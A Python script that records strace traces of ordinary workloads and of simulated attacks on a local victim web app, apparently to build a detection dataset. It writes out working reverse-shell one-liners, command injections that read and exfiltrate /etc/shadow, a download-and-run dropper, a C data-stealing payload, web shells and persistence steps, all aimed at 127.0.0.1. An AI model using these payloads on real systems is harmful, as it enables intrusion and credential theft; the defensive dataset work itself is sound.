"""Recipe: record real ``strace -f`` traces of ordinary workloads and of attack-like behaviour on this machine.

Everything runs locally (127.0.0.1 only) and leaves the system as it was: attacks read ``/etc/shadow``,
open a reverse shell to a listener of this script, download and run a file from this script's own
HTTP server, brute-force the local victim app's login, plant a web shell, or add a user inside a
throw-away ``useradd --prefix`` root under ``/tmp``. Nothing here is ever run by the tests.

Normal workloads (each traced whole, ``strace -f``):
  webapp        the victim app (``victim_app.py``) serving normal client sessions
  shell         an interactive-style shell session (files, text tools, curl/wget to a local server)
  build         a small C project built with make + gcc, run, rebuilt
  pytest        a generated Python test suite plus two light test files of this project, under pytest
  nginx         nginx (private config, 127.0.0.1) serving static files and 404s
  git           git init/commit/log/diff/branch/clone in a temp repository
  archive       tar/gzip/xz/zip/sha256sum over a generated tree
  sqlite        a Python ETL job (CSV -> sqlite -> JSON) and the sqlite3 shell
Attack families (the victim app under ``strace -f``, attack sessions among normal ones; the app logs
which child served which tagged client, and a child's descendants inherit its label):
  revshell      command injection -> reverse shell (bash /dev/tcp, python, perl) to a local listener
                that sends a few commands
  shadow        command injection -> read /etc/shadow and /etc/passwd, stage and exfiltrate (curl/python)
  dropper       command injection -> download a shell or compiled payload from a local server, run it
  bruteforce    hundreds of wrong passwords against /login over keep-alive connections
  webshell      upload a Python web shell, then run commands through the plugin runner
  adduser       command injection -> useradd in a throw-away --prefix root + ssh key + cron line

Output: ``OUT/<workload>/run<k>.strace.gz`` (raw ``strace -f -o``), ``OUT/<workload>/run<k>.json`` (labels:
kind, family, per-pid tags for app runs) and ``OUT/manifest.json``.

    nice -n 10 python benchmarks/traces/record.py --out /work/data/traces --runs 6
"""

from __future__ import annotations

import argparse
import gzip
import hashlib
import http.client
import http.server
import json
import os
import platform
import random
import shutil
import socket
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
from pathlib import Path

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[1]
PY = os.path.realpath(sys.executable)           # the real interpreter, not a pyenv shim
VENV_PY = sys.executable
NORMAL = ("webapp", "shell", "build", "pytest", "nginx", "git", "archive", "sqlite")
ATTACKS = ("revshell", "shadow", "dropper", "bruteforce", "webshell", "adduser")


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def wait_port(port: int, timeout: float = 20.0) -> None:
    t0 = time.time()
    while time.time() - t0 < timeout:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.5):
                return
        except OSError:
            time.sleep(0.1)
    raise RuntimeError(f"nothing listens on 127.0.0.1:{port}")


def strace_cmd(out: Path) -> list[str]:
    return ["strace", "-f", "-qq", "-o", str(out)]


def env_with_bin(work: Path) -> dict[str, str]:
    """PATH with a ``python3`` that is the real interpreter (a pyenv shim would add its own processes)."""
    b = work / "bin"
    b.mkdir(exist_ok=True)
    if not (b / "python3").exists():
        os.symlink(PY, b / "python3")
    env = dict(os.environ)
    env["PATH"] = f"{b}:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
    env["HOME"] = str(work / "home")
    (work / "home").mkdir(exist_ok=True)
    return env


# ------------------------------------------------------------------------------------------------
# A local file server (payloads for the dropper, files for normal downloads) that also takes POSTs
# ------------------------------------------------------------------------------------------------

class _Files(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *a):
        pass

    def do_POST(self):
        n = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(n)
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")


def file_server(root: Path) -> tuple[http.server.ThreadingHTTPServer, int]:
    port = free_port()
    handler = lambda *a, **k: _Files(*a, directory=str(root), **k)     # noqa: E731
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", port), handler)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv, port


# ------------------------------------------------------------------------------------------------
# The victim web application and its clients
# ------------------------------------------------------------------------------------------------

PRODUCTS = ["red apple", "green pear", "usb cable", "laptop stand", "coffee mug", "desk lamp", "notebook",
            "pencil set", "headphones", "keyboard", "mouse pad", "water bottle", "backpack", "phone case"]


def make_site(root: Path, rng: random.Random) -> None:
    (root / "static").mkdir(parents=True)
    (root / "uploads").mkdir()
    (root / "plugins").mkdir()
    (root / "static" / "index.html").write_text("<html><body><h1>shop</h1></body></html>" * 5)
    for i in range(12):
        (root / "static" / f"page{i}.html").write_text(f"<p>page {i}</p>" * rng.randint(5, 400))
    (root / "static" / "site.css").write_text("body{margin:0}" * 50)
    (root / "static" / "logo.png").write_bytes(bytes(rng.randrange(256) for _ in range(4000)))
    (root / "plugins" / "stats.py").write_text(
        "import sys, sqlite3, os\n"
        "db = sqlite3.connect(os.path.join(os.path.dirname(__file__), '..', 'shop.db'))\n"
        "print(db.execute('SELECT count(*), avg(price) FROM products').fetchone(), sys.argv[1:])\n")
    db = sqlite3.connect(root / "shop.db")
    db.execute("CREATE TABLE products (name TEXT, price REAL)")
    db.executemany("INSERT INTO products VALUES (?, ?)", [(p, rng.uniform(1, 90)) for p in PRODUCTS])
    db.execute("CREATE TABLE users (name TEXT, salt TEXT, hash TEXT)")
    for u, pw in [("alice", "wonderland42"), ("bob", "builder7"), ("carol", "xmas-carol")]:
        salt = os.urandom(8)
        db.execute("INSERT INTO users VALUES (?, ?, ?)",
                   (u, salt.hex(), hashlib.pbkdf2_hmac("sha256", pw.encode(), salt, 2000).hex()))
    db.commit()
    db.close()


class Client:
    """One keep-alive connection = one forked child of the app = one traced process."""

    def __init__(self, port: int, tag: str):
        self.c = http.client.HTTPConnection("127.0.0.1", port, timeout=120)
        self.tag = tag

    def get(self, path: str) -> bytes:
        self.c.request("GET", path, headers={"X-Trace-Tag": self.tag})
        return self.c.getresponse().read()

    def post(self, path: str, body: bytes) -> bytes:
        self.c.request("POST", path, body=body, headers={"X-Trace-Tag": self.tag,
                                                         "Content-Type": "application/x-www-form-urlencoded"})
        return self.c.getresponse().read()

    def close(self) -> None:
        self.c.close()


def normal_requests(cl: Client, rng: random.Random, n: int) -> None:
    for _ in range(n):
        r = rng.random()
        if r < 0.3:
            cl.get(rng.choice(["/", "/static/site.css", "/static/logo.png"] +
                              [f"/static/page{i}.html" for i in range(12)]))
        elif r < 0.5:
            cl.get("/search?q=" + urllib.parse.quote(rng.choice(rng.choice(PRODUCTS).split())))
        elif r < 0.62:
            user, pw = rng.choice([("alice", "wonderland42"), ("bob", "builder7"), ("carol", "xmas-carol")])
            if rng.random() < 0.15:
                pw = pw[:-1]                                  # a typo: normal users fail sometimes
            cl.post("/login", urllib.parse.urlencode({"user": user, "password": pw}).encode())
        elif r < 0.72:
            cl.post(f"/upload?name=note{rng.randint(0, 30)}.txt", os.urandom(rng.randint(10, 3000)).hex().encode())
        elif r < 0.82:
            cl.get("/lookup?host=" + rng.choice(["localhost", "ip6-localhost", "localhost6"]))
        elif r < 0.9:
            cl.get("/plugin?name=stats&arg=" + rng.choice(["daily", "weekly", "all"]))
        else:
            cl.get("/missing/" + str(rng.randint(0, 99)))


def normal_session(port: int, rng: random.Random) -> None:
    cl = Client(port, "normal")
    try:
        normal_requests(cl, rng, rng.randint(3, 40))
    except Exception as exc:                      # noqa: BLE001 - a failed session is logged, the run goes on
        print(f"normal session: {type(exc).__name__}: {exc}", file=sys.stderr)
    cl.close()


REVSHELLS = [
    "bash -c 'bash -i >& /dev/tcp/127.0.0.1/{p} 0>&1'",
    "python3 -c 'import socket,os;s=socket.socket();s.connect((\"127.0.0.1\",{p}));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv(\"/bin/sh\",[\"sh\",\"-i\"])'",
    "perl -e 'use Socket;$i=\"127.0.0.1\";$p={p};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");}};'",
]
SHELL_CMDS = ["id", "uname -a", "whoami", "cat /etc/passwd", "ls -la /tmp", "ps aux | head -20",
              "cat /etc/os-release", "env | head -5", "cat /proc/version", "ls -la ~", "df -h", "hostname"]


def listener(port_box: list, cmds: list[str], ready: threading.Event) -> None:
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    port_box.append(srv.getsockname()[1])
    ready.set()
    srv.settimeout(60)
    try:
        conn, _ = srv.accept()
    except OSError:
        srv.close()
        return
    conn.settimeout(3)
    for c in cmds + ["exit"]:
        time.sleep(0.2)
        try:
            conn.sendall((c + "\n").encode())
            conn.recv(65536)
        except OSError:
            pass
    time.sleep(0.3)
    conn.close()
    srv.close()


def inject(cl: Client, cmd: str) -> None:
    cl.get("/lookup?host=" + urllib.parse.quote("localhost; " + cmd))


def attack_session(family: str, port: int, rng: random.Random, ctx: dict) -> None:
    cl = Client(port, "attack")
    try:
        _attack(cl, family, rng, ctx)
    except Exception as exc:                      # noqa: BLE001 - a failed session is logged, the run goes on
        print(f"{family} session: {type(exc).__name__}: {exc}", file=sys.stderr)
    cl.close()


def _attack(cl: Client, family: str, rng: random.Random, ctx: dict) -> None:
    normal_requests(cl, rng, rng.randint(1, 8))                    # look around like a visitor first
    if family == "revshell":
        box: list = []
        ready = threading.Event()
        t = threading.Thread(target=listener, args=(box, rng.sample(SHELL_CMDS, rng.randint(3, 7)), ready))
        t.start()
        ready.wait()
        inject(cl, rng.choice(REVSHELLS).format(p=box[0]))
        t.join()
    elif family == "shadow":
        stage = f"/tmp/.cache_{rng.randint(0, 10**6)}"
        exfil = f"http://127.0.0.1:{ctx['files_port']}/up"
        steps = [rng.choice(["cat /etc/shadow", "head -5 /etc/shadow", "grep -v '[*!]:' /etc/shadow"]),
                 rng.choice(["cat /etc/passwd", "grep -v nologin /etc/passwd", "awk -F: '$3>=0' /etc/passwd"]),
                 f"cp /etc/shadow {stage}",
                 rng.choice([f"base64 {stage} | curl -s --data-binary @- {exfil}",
                             f"python3 -c \"import urllib.request;urllib.request.urlopen('{exfil}', "
                             f"open('{stage}','rb').read())\"",
                             f"tar czf {stage}.tgz /etc/shadow /etc/passwd 2>/dev/null; curl -s -F f=@{stage}.tgz {exfil}"]),
                 f"rm -f {stage} {stage}.tgz"]
        if rng.random() < 0.5:
            inject(cl, "; ".join(steps))
        else:
            for s in steps:
                inject(cl, s)
    elif family == "dropper":
        url = f"http://127.0.0.1:{ctx['files_port']}/" + rng.choice(["p.sh", "p.bin"])
        dest = f"/tmp/.u{rng.randint(0, 10**6)}"
        fetch = rng.choice([f"curl -s {url} -o {dest}", f"wget -q {url} -O {dest}",
                            f"python3 -c \"import urllib.request;urllib.request.urlretrieve('{url}','{dest}')\""])
        inject(cl, f"{fetch} && chmod +x {dest} && {dest}; rm -f {dest}")
    elif family == "bruteforce":
        words = ctx["wordlist"]
        user = rng.choice(["alice", "admin", "root", "bob"])
        for w in rng.choices(words, k=rng.randint(60, 200)):
            cl.post("/login", urllib.parse.urlencode({"user": user, "password": w}).encode())
    elif family == "webshell":
        name = rng.choice(["shell", "img_cache", "helper", "x"])
        cl.post(f"/upload?name={name}.py", rng.choice([
            b"import subprocess,sys\nprint(subprocess.run(sys.argv[1],shell=True,capture_output=True,text=True).stdout)\n",
            b"import os,sys\nprint(os.popen(sys.argv[1]).read())\n"]))
        for c in rng.sample(SHELL_CMDS, rng.randint(2, 6)):
            cl.get(f"/plugin?name={name}&arg=" + urllib.parse.quote(c))
    elif family == "adduser":
        root = f"/tmp/fr_{rng.randint(0, 10**6)}"
        ctx["cleanup"].append(root)
        user = rng.choice(["svc_backup", "sysupdate", "admin2", "support"])
        steps = [f"mkdir -p {root}/etc {root}/home",
                 f"cp /etc/passwd /etc/group /etc/shadow /etc/gshadow /etc/login.defs {root}/etc/",
                 f"useradd --prefix {root} -m -s /bin/bash {user}",
                 f"mkdir -p {root}/home/{user}/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEKEYFAKEKEY "
                 f"x@y' >> {root}/home/{user}/.ssh/authorized_keys && chmod 600 {root}/home/{user}/.ssh/authorized_keys",
                 f"echo '* * * * * root /tmp/.u' >> {root}/etc/crontab"]
        if rng.random() < 0.5:
            inject(cl, " && ".join(steps))
        else:
            for s in steps:
                inject(cl, s)
    normal_requests(cl, rng, rng.randint(0, 5))


PAYLOAD_SH = """#!/bin/sh
id; uname -a; cat /proc/version; hostname
ls -la /home /root 2>/dev/null | head -20
find /etc -maxdepth 2 -name '*.conf' 2>/dev/null | head -10
ps aux 2>/dev/null | head -10
cat /etc/passwd | cut -d: -f1 | head
echo done > /tmp/.marker_$$; rm -f /tmp/.marker_$$
"""

PAYLOAD_C = r"""
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <dirent.h>
#include <sys/utsname.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
int main(int argc, char **argv) {
  struct utsname u; uname(&u);
  char buf[4096]; size_t n = 0; FILE *f;
  if ((f = fopen("/etc/passwd", "r"))) { n = fread(buf, 1, sizeof buf - 1, f); fclose(f); }
  DIR *d = opendir("/proc"); struct dirent *e; int procs = 0;
  if (d) { while ((e = readdir(d))) procs++; closedir(d); }
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = {0}; a.sin_family = AF_INET; a.sin_port = htons(PORT); a.sin_addr.s_addr = inet_addr("127.0.0.1");
  if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) {
    char hdr[256]; int k = snprintf(hdr, sizeof hdr, "POST /up HTTP/1.0\r\nContent-Length: %zu\r\n\r\n", n);
    write(s, hdr, k); write(s, buf, n); read(s, hdr, sizeof hdr);
  }
  close(s);
  printf("%s %d\n", u.nodename, procs);
  return 0;
}
"""


def run_app(out: Path, work: Path, rng: random.Random, family: str | None) -> dict:
    site = work / "site"
    make_site(site, rng)
    log = work / "pids.log"
    env = env_with_bin(work)
    files = work / "files"
    files.mkdir()
    (files / "p.sh").write_text(PAYLOAD_SH)
    srv_files, files_port = file_server(files)
    subprocess.run(["gcc", "-O1", f"-DPORT={files_port}", "-o", str(files / "p.bin"), "-x", "c", "-"],
                   input=PAYLOAD_C.encode(), check=True)
    port = free_port()
    proc = subprocess.Popen(strace_cmd(out) + [PY, str(HERE / "victim_app.py"), "--port", str(port), "--root",
                                               str(site), "--log", str(log)], env=env, cwd=work)
    ctx = {"files_port": files_port, "cleanup": [],
           "wordlist": [f"{w}{d}" for w in ["password", "letmein", "qwerty", "dragon", "monkey", "shadow",
                                            "master", "sunshine", "princess", "admin", "welcome", "login"]
                        for d in ["", "1", "12", "123", "!", "2023", "2024", "01", "99"]]}
    try:
        wait_port(port)
        jobs = [("normal", None)] * rng.randint(15, 30)
        if family:
            jobs += [("attack", family)] * rng.randint(2, 4)
        rng.shuffle(jobs)
        threads = []
        for i, (kind, fam) in enumerate(jobs):
            r = random.Random(rng.random())
            t = threading.Thread(target=(normal_session if kind == "normal" else
                                         (lambda p, rr, f=fam: attack_session(f, p, rr, ctx))), args=(port, r))
            t.start()
            threads.append(t)
            if len(threads) >= 3:                     # a few concurrent clients
                threads.pop(0).join()
            time.sleep(rng.uniform(0.0, 0.2))
        for t in threads:
            t.join()
    finally:
        time.sleep(0.5)
        srv_pid = next((int(x.split("\t")[0]) for x in log.read_text().splitlines() if x.endswith("\tserver\t-")),
                       None) if log.exists() else None
        if srv_pid:
            os.kill(srv_pid, 15)                      # the app (strace's child, started above): SIGTERM
        try:
            proc.wait(timeout=90)
        except subprocess.TimeoutExpired:          # a stuck child: end the app's processes (all ours)
            for pid in {int(x.split("\t")[0]) for x in log.read_text().splitlines()}:
                try:
                    os.kill(pid, 9)
                except OSError:
                    pass
            proc.wait(timeout=30)
        srv_files.shutdown()
        for d in ctx["cleanup"]:
            shutil.rmtree(d, ignore_errors=True)
    tags: dict[str, str] = {}
    for line in log.read_text().splitlines():
        pid, tag, _ = line.split("\t", 2)
        if tag == "attack" or pid not in tags:
            tags[pid] = tag
    return {"pid_tags": tags}


# ------------------------------------------------------------------------------------------------
# Other normal workloads: a generated shell script, run under strace -f bash
# ------------------------------------------------------------------------------------------------

def script_shell(work: Path, rng: random.Random, files_port: int) -> str:
    cmds = ["mkdir -p proj/src proj/docs logs", "for i in $(seq 1 %d); do echo \"line $i $RANDOM\" >> logs/app.log; done"
            % rng.randint(50, 400)]
    pool = ["ls -la", "ls proj", "pwd", "date", "whoami", "id -un", "uname -r", "grep -c line logs/app.log",
            "sort logs/app.log | uniq | wc -l", "head -3 logs/app.log", "tail -5 logs/app.log",
            "cut -d' ' -f2 logs/app.log | sort -n | tail -1", "awk '{s+=$2} END {print s}' logs/app.log",
            "sed -n '2,4p' logs/app.log", "find . -name '*.log' | head", "du -sh .", "df -h . | tail -1",
            "cp logs/app.log proj/docs/copy.txt", "mv proj/docs/copy.txt proj/docs/moved.txt", "rm -f proj/docs/*.txt",
            "echo hello > proj/src/a.txt && cat proj/src/a.txt", "wc -l logs/app.log", "ps aux | head -3",
            "cat /etc/hostname", "cat /etc/os-release | head -2", "env | grep -c PATH", "stat logs/app.log",
            "touch proj/src/b.txt && ls -l proj/src", "python3 -c 'print(sum(range(1000)))'",
            f"curl -s http://127.0.0.1:{files_port}/readme.txt -o dl.txt && wc -c dl.txt",
            f"wget -q http://127.0.0.1:{files_port}/readme.txt -O dl2.txt && md5sum dl2.txt",
            "gzip -c logs/app.log > logs/app.log.gz && ls -l logs", "sleep 0.1", "history | tail -1 || true",
            "diff logs/app.log logs/app.log && echo same", "tr a-z A-Z < logs/app.log | head -2", "cat /proc/loadavg",
            "xargs -n1 echo < /dev/null", "seq 1 20 | paste -sd+ | bc 2>/dev/null || true", "less -V | head -1",
            "grep -rn line logs | head -2", "chmod 644 logs/app.log", "ln -sf logs/app.log latest.log && ls -l latest.log"]
    cmds += rng.sample(pool, rng.randint(15, len(pool)))
    return "\n".join(cmds) + "\n"


C_FUNC = """#include <stdio.h>
#include <string.h>
int f{i}(int x) {{ char buf[64]; snprintf(buf, sizeof buf, "%d", x * {k}); return (int)strlen(buf) + x % {m}; }}
"""


def script_build(work: Path, rng: random.Random) -> str:
    src = work / "cproj"
    src.mkdir()
    n = rng.randint(4, 10)
    for i in range(n):
        (src / f"f{i}.c").write_text(C_FUNC.format(i=i, k=rng.randint(2, 99), m=rng.randint(2, 9)))
    (src / "main.c").write_text("#include <stdio.h>\n" + "".join(f"int f{i}(int);\n" for i in range(n)) +
                                "int main(void){ long s=0; for(int x=0;x<100;x++){ " +
                                "".join(f"s+=f{i}(x);" for i in range(n)) + " } printf(\"%ld\\n\", s); return 0; }\n")
    objs = " ".join(f"f{i}.o" for i in range(n)) + " main.o"
    (src / "Makefile").write_text(f"CFLAGS ?= -O{rng.randint(0, 2)} -Wall\nall: app\napp: {objs}\n\t$(CC) -o app {objs}\n"
                                  "%.o: %.c\n\t$(CC) $(CFLAGS) -c $<\nclean:\n\trm -f *.o app\n")
    return ("cd cproj\nmake -s\n./app\nmake -s clean\nmake -s CFLAGS='-O2 -g'\n./app\nls -l app\n"
            "strip app 2>/dev/null || true\n./app > out.txt && cat out.txt\n")


PYTEST_FILE = """import json, re, sqlite3, hashlib, tempfile, os, pathlib
def test_json_{i}():
    d = {{"a": {i}, "b": [1, 2, 3]}}
    assert json.loads(json.dumps(d)) == d
def test_re_{i}():
    assert re.findall(r"\\d+", "a1b22c{i}") [-1] == "{i}"
def test_sqlite_{i}(tmp_path):
    db = sqlite3.connect(tmp_path / "t.db"); db.execute("create table t (x)")
    db.executemany("insert into t values (?)", [(k,) for k in range({n})]); db.commit()
    assert db.execute("select count(*) from t").fetchone()[0] == {n}
def test_files_{i}(tmp_path):
    p = tmp_path / "f.txt"; p.write_text("x" * {n}); assert p.stat().st_size == {n}
    assert hashlib.sha256(p.read_bytes()).hexdigest()
"""


def script_pytest(work: Path, rng: random.Random) -> str:
    t = work / "suite"
    t.mkdir()
    for i in range(rng.randint(2, 6)):
        (t / f"test_gen{i}.py").write_text(PYTEST_FILE.format(i=i, n=rng.randint(5, 500)))
    light = rng.sample(["tests/test_split.py", "tests/test_desensitize.py", "tests/test_canonical.py"], 2)
    return (f"cd suite && {VENV_PY} -m pytest -q -p no:cacheprovider . \n"
            f"cd {REPO} && PYTHONPATH={REPO}/src {VENV_PY} -m pytest -q -p no:cacheprovider {' '.join(light)} "
            "-x -k 'not slow' 2>&1 | tail -2\n")


def script_git(work: Path, rng: random.Random) -> str:
    lines = ["git init -q repo && cd repo", "git config user.email a@b.c && git config user.name dev"]
    for i in range(rng.randint(3, 8)):
        lines += [f"echo 'v{i} {rng.random()}' >> file{rng.randint(0, 3)}.txt", "git add -A",
                  f"git commit -qm 'change {i}'"]
    lines += ["git log --oneline | head", "git diff HEAD~1 --stat", "git branch feature && git checkout -q feature",
              "echo x >> file0.txt && git commit -qam x", "git checkout -q - && git merge -q feature",
              "git status --short", "cd .. && git clone -q repo clone && cd clone && git log -1 --format=%H",
              "git gc -q 2>/dev/null || true", "git show --stat HEAD | head -5"]
    return "\n".join(lines) + "\n"


def script_archive(work: Path, rng: random.Random) -> str:
    return ("mkdir -p tree/a tree/b\n"
            f"for i in $(seq 1 {rng.randint(10, 60)}); do head -c $((RANDOM % 5000)) /dev/urandom > tree/a/f$i.bin; "
            "echo $i > tree/b/t$i.txt; done\n"
            + "\n".join(rng.sample([
                "tar czf t.tgz tree && tar tzf t.tgz | wc -l", "tar cJf t.txz tree && ls -l t.txz",
                "zip -qr t.zip tree && unzip -l t.zip | tail -1", "sha256sum tree/a/* | head -3",
                "find tree -type f | xargs md5sum | wc -l", "gzip -k tree/b/t1.txt && gunzip -c tree/b/t1.txt.gz",
                "mkdir -p x && tar xzf t.tgz -C x && du -s x", "cp -r tree tree2 && diff -r tree tree2 && echo ok",
                "xz -k tree/b/t2.txt && xz -dc tree/b/t2.txt.xz"], 6)) + "\n")


SQLITE_ETL = """import csv, json, random, sqlite3, sys
rng = random.Random(int(sys.argv[1]))
with open("data.csv", "w", newline="") as f:
    w = csv.writer(f); w.writerow(["id", "city", "amount"])
    for i in range(rng.randint(200, 3000)):
        w.writerow([i, rng.choice(["paris", "lyon", "oslo", "rome"]), round(rng.uniform(1, 500), 2)])
db = sqlite3.connect("etl.db")
db.execute("create table if not exists sales (id int, city text, amount real)")
with open("data.csv") as f:
    r = csv.DictReader(f)
    db.executemany("insert into sales values (?, ?, ?)", [(x["id"], x["city"], x["amount"]) for x in r])
db.commit()
out = {c: s for c, s in db.execute("select city, sum(amount) from sales group by city")}
json.dump(out, open("summary.json", "w"))
print(len(out))
"""


def script_sqlite(work: Path, rng: random.Random) -> str:
    (work / "etl.py").write_text(SQLITE_ETL)
    return (f"python3 etl.py {rng.randint(0, 999)}\n"
            "sqlite3 etl.db 'select count(*) from sales; select city, max(amount) from sales group by city;'\n"
            f"python3 etl.py {rng.randint(0, 999)}\ncat summary.json\n"
            "sqlite3 etl.db 'create index if not exists ic on sales(city); vacuum;'\n")


NGINX_CONF = """daemon off; master_process on; worker_processes 1; pid {w}/nginx.pid; error_log {w}/error.log;
events {{ worker_connections 64; }}
http {{ access_log {w}/access.log; client_body_temp_path {w}/tmp; proxy_temp_path {w}/tmp;
  fastcgi_temp_path {w}/tmp; uwsgi_temp_path {w}/tmp; scgi_temp_path {w}/tmp;
  server {{ listen 127.0.0.1:{port}; root {w}/www; location / {{ autoindex on; }} }} }}
"""


def run_nginx(out: Path, work: Path, rng: random.Random) -> dict:
    (work / "www").mkdir()
    (work / "tmp").mkdir()
    for i in range(20):
        (work / "www" / f"f{i}.html").write_text("<p>x</p>" * rng.randint(1, 3000))
    port = free_port()
    (work / "nginx.conf").write_text(NGINX_CONF.format(w=work, port=port))
    proc = subprocess.Popen(strace_cmd(out) + ["nginx", "-c", str(work / "nginx.conf"), "-p", str(work)], cwd=work)
    try:
        wait_port(port)
        for _ in range(rng.randint(3, 8)):
            c = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
            for _ in range(rng.randint(5, 40)):
                c.request("GET", rng.choice([f"/f{rng.randint(0, 25)}.html", "/", "/nope"]))
                c.getresponse().read()
            c.close()
    finally:
        pidf = work / "nginx.pid"
        if pidf.exists():
            os.kill(int(pidf.read_text().strip()), 3)          # the nginx master started above: SIGQUIT
        proc.wait(timeout=60)
    return {}


def run_script(out: Path, work: Path, script: str) -> dict:
    (work / "run.sh").write_text("set +e\n" + script)
    subprocess.run(strace_cmd(out) + ["bash", str(work / "run.sh")], cwd=work, env=env_with_bin(work),
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=600)
    return {}


def record_one(workload: str, run: int, out_dir: Path, seed: int) -> dict:
    rng = random.Random(f"{seed}-{workload}-{run}")
    d = out_dir / workload
    d.mkdir(parents=True, exist_ok=True)
    out = d / f"run{run}.strace"
    t0 = time.time()
    with tempfile.TemporaryDirectory(prefix=f"secllm-rec-{workload}-") as tmp:
        work = Path(tmp)
        if workload == "webapp" or workload in ATTACKS:
            labels = run_app(out, work, rng, None if workload == "webapp" else workload)
        elif workload == "nginx":
            labels = run_nginx(out, work, rng)
        else:
            files = work / "files"
            files.mkdir()
            (files / "readme.txt").write_text("readme " * 500)
            srv, fport = file_server(files)
            try:
                script = {"shell": lambda: script_shell(work, rng, fport), "build": lambda: script_build(work, rng),
                          "pytest": lambda: script_pytest(work, rng), "git": lambda: script_git(work, rng),
                          "archive": lambda: script_archive(work, rng),
                          "sqlite": lambda: script_sqlite(work, rng)}[workload]()
                labels = run_script(out, work, script)
            finally:
                srv.shutdown()
    # strace text compresses about tenfold; every reader here opens .gz transparently
    with open(out, "rb") as src, gzip.open(str(out) + ".gz", "wb", compresslevel=6) as dst:
        shutil.copyfileobj(src, dst)
    size = out.stat().st_size
    out.unlink()
    out = Path(str(out) + ".gz")
    meta = {"file": str(out.relative_to(out_dir)), "workload": workload, "run": run,
            "kind": "attack" if workload in ATTACKS else "normal", "family": workload if workload in ATTACKS else None,
            "seconds": round(time.time() - t0, 2), "bytes": size, **labels}
    (d / f"run{run}.json").write_text(json.dumps(meta, indent=1))
    return meta


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--out", default="/work/data/traces")
    ap.add_argument("--runs", type=int, default=6)
    ap.add_argument("--seed", type=int, default=0)
    ap.add_argument("--only", nargs="*", default=None, help="Workloads to record (default: all).")
    a = ap.parse_args(argv)
    out = Path(a.out)
    out.mkdir(parents=True, exist_ok=True)
    todo = a.only or list(NORMAL + ATTACKS)
    manifest = {"strace": subprocess.run(["strace", "-V"], capture_output=True, text=True).stdout.splitlines()[0],
                "kernel": platform.release(), "machine": platform.machine(), "python": PY,
                "created": time.strftime("%Y-%m-%dT%H:%M:%S%z"), "recipe": "benchmarks/traces/record.py",
                "runs": []}
    mpath = out / "manifest.json"
    if mpath.exists():
        old = json.loads(mpath.read_text())
        manifest["runs"] = [r for r in old.get("runs", []) if r["workload"] not in todo]
    for run in range(a.runs):
        for w in todo:
            try:
                meta = record_one(w, run, out, a.seed)
            except Exception as exc:              # one failed run is reported, the recipe goes on
                meta = {"workload": w, "run": run, "error": f"{type(exc).__name__}: {exc}"}
            manifest["runs"].append(meta)
            print(json.dumps({k: v for k, v in meta.items() if k != "pid_tags"}), flush=True)
            mpath.write_text(json.dumps(manifest, indent=1))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
